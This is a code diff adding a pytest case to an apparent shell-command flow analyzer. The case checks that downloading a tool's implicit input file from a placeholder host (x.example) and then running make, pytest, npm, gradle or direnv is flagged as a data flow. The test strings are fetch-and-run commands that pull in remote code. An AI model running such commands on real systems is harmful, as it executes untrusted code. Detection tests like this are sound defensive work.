@@ -234,3 +234,19 @@ def test_a_file_is_a_pipe_with_a_name(text: str, fed: set[tuple[str, str]]) -> N
     found = facts(text)
     names = [getattr(access.target, "name", "") for access in found.accesses]
     assert {(names[flow.source], names[flow.sink]) for flow in found.flows} == fed
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -o Makefile https://x.example/m; make test",
+        "wget -O conftest.py https://x.example/c && pytest",
+        "curl https://x.example/p > package.json; npm test",
+        "curl -o sub/build.gradle https://x.example/b; gradle build",
+        "curl -o .envrc https://x.example/e; direnv allow",
+    ],
+)
+def test_a_file_that_a_tool_takes_by_itself_feeds_it(command: str) -> None:
+    facts = analyze_shell(command, ShellContext(cwd="/w", home="/home/u", project="/w"))
+    programs = [n for n, access in enumerate(facts.accesses) if isinstance(access.target, ProgramTarget)]
+    assert any((flow.source, flow.sink) == (programs[0], programs[-1]) for flow in facts.flows), facts.flows
